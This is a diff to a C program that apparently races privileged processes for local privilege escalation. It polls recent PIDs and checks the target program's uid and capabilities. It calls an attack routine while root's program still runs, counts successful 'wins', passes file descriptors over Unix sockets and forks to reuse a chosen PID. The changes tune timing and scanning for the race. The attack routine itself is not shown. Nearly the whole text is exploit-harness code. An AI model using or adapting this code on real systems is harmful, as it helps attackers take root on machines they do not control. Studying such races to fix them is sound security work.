@@ -177,38 +177,32 @@ static int spin(const char *way, const char *name, long ms)
 	long seen = 0, window = 0, won = 0;
 	struct timespec start, now;
 	clock_gettime(CLOCK_MONOTONIC, &start);
-	pid_t last = 0;
+	pid_t before = 0;
 	do {
-		DIR *all = opendir("/proc");
-		struct dirent *each;
-		pid_t newest = last;
-		while ((each = readdir(all))) {
-			pid_t pid = atoi(each->d_name);
-			if (pid <= last)
-				continue;
+		pid_t last = 0;
+		FILE *load = fopen("/proc/loadavg", "re");
+		if (fscanf(load, "%*s %*s %*s %*s %d", &last) != 1)
+			last = 0;
+		fclose(load);
+		for (pid_t pid = last; pid > last - 12 && pid > 1; pid--) {
 			char is[32] = "";
 			unsigned uid;
 			unsigned long long caps;
-			for (int again = 0; again < 400 && look(pid, is, &uid, &caps); again++) {
-				if (strcmp(is, name) != 0) {
-					if (strcmp(is, "sudo") == 0 || strcmp(is, "setpriv") == 0)
-						newest = pid - 1;
-					break;
-				}
-				seen += again == 0;
+			while (look(pid, is, &uid, &caps) && strcmp(is, name) == 0) {
+				seen += pid != before;
+				before = pid;
 				window += uid == getuid() && caps != 0;
 				int done = attack(pid, way);
 				char still[32] = "";
 				/* Only what still runs root's program counts; afterwards it is the user's own process. */
 				if (done && look(pid, still, &uid, &caps) && strcmp(still, name) == 0)
 					won++;
+				clock_gettime(CLOCK_MONOTONIC, &now);
+				if ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 >= ms)
+					break;
 			}
-			newest = pid > newest ? pid : newest;
 		}
-		closedir(all);
 		clock_gettime(CLOCK_MONOTONIC, &now);
-		/* Ids start again from low ones some day, and a sudo becomes another program. */
-		last = newest > 40 ? newest - 40 : 0;
 	} while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < ms);
 	printf("seen %ld window %ld won %ld\n", seen, window, won);
 	return 0;
@@ -236,7 +230,7 @@ static int talk(const char *path, int *give)
 		head->cmsg_len = CMSG_LEN(sizeof(int));
 		memcpy(CMSG_DATA(head), give, sizeof(int));
 		int failed = sendmsg(other, &message, 0) < 0;
-		pause_for(2000);
+		pause_for(200);
 		return failed;
 	}
 	for (int tries = 0; connect(end, (struct sockaddr *) &at, sizeof at) != 0; tries++) {
@@ -284,7 +278,7 @@ static int terminal(const char *typed, char **command)
 static int nothing(void *argument)
 {
 	(void) argument;
-	pause_for(3000);
+	pause_for(300);
 	return 0;
 }
 
@@ -460,7 +454,7 @@ int main(int argc, char **argv)
 	/* Forks until a child has this id, which stays. */
 	if (strcmp(way, "reuse") == 0) {
 		pid_t wanted = atoi(argv[2]);
-		for (int times = 0; times < 100000; times++) {
+		for (int times = 0; times < 2000; times++) {
 			pid_t child = fork();
 			if (child == 0 && getpid() != wanted)
 				_exit(0);
